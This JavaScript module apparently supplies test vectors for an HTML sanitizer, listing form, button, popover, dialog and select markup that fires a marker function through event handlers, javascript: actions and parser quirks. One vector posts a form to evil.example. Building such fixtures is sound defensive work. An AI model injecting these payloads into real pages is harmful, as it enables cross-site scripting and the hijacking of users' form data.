import { vectorsOf } from './vector.js';

/** Forms, fields and buttons, and what they call up. */
export const FORMS = vectorsOf('forms', {
  'a form that is sent':
    '<form action="https://evil.example/" method=post target=_top><input name=a value=b>Merrowmouth<button>Go</button></form>',
  'a form to a script': '<form action="javascript:hit()">Merrowmouth<input type=submit></form>',
  'a button of its own address': '<form><button formaction="javascript:hit()">Merrowmouth</button></form>',
  'a field of its own address':
    '<form id=g></form><input type=image form=g formaction="javascript:hit()" src="/x.png">Merrowmouth',
  'a field that asks for a word':
    '<input type=password autocomplete=current-password autofocus onfocus=hit()>Merrowmouth',
  'a field that is hidden':
    '<input type=hidden accesskey=x onclick=hit() oncontentvisibilityautostatechange=hit()>Merrowmouth',
  'a hidden field with a popover':
    '<input type=hidden popover id=h onbeforetoggle=hit()><button popovertarget=h>Merrowmouth</button>',
  'a popover':
    '<div id=p popover onbeforetoggle=hit() ontoggle=hit()>Merrowmouth</div><button popovertarget=p popovertargetaction=show>Merrowmouth</button>',
  'a command to a dialog':
    '<dialog id=d onclose=hit()>Merrowmouth</dialog><button commandfor=d command=show-modal>Merrowmouth</button>',
  'a command of its own':
    '<button commandfor=x command="--run" interestfor=x oncommand=hit() oninterest=hit()>Merrowmouth</button>',
  'a list of choices': '<select onchange=hit() autofocus onfocus=hit()><option selected>Merrowmouth</select>',
  'a list of choices that is styled':
    '<select><button><selectedcontent></selectedcontent></button><option><img src=x: onerror=hit()></select>Merrowmouth',
  'a list of proposals':
    '<input list=l><datalist id=l><option value="<img src=x: onerror=hit()>"></datalist>Merrowmouth',
  'a key': '<keygen autofocus onfocus=hit()>Merrowmouth',
  'an index': '<isindex action="javascript:hit()" type=image>Merrowmouth',
  'an output and a meter':
    '<output onclick=hit()>Merrowmouth</output><meter onclick=hit() value=1></meter><progress onclick=hit()></progress>',
  'a label': '<label for=x onclick=hit()>Merrowmouth</label>',
  'a set of fields': '<fieldset form=x onfocusin=hit() disabled><legend>Merrowmouth</legend></fieldset>',
  'a search': '<search onclick=hit()><form>Merrowmouth</form></search>',
  'a form in a form': '<form><div></form><form id=x>Merrowmouth<input name=id></div></form>',
  'a form in a table': '<table><form action="javascript:hit()"><tr><td>Merrowmouth</td></tr></form></table>',
  'a text that can be edited':
    '<p contenteditable=plaintext-only onfocus=hit() inputmode=none enterkeyhint=go>Merrowmouth</p>',
  'a text that cannot be reached': '<p inert aria-hidden=true hidden>Merrowmouth</p>',
  'an order of its own':
    '<p tabindex=1 accesskey=s spellcheck=true translate=no nonce=abc itemscope itemid=x>Merrowmouth</p>',
});
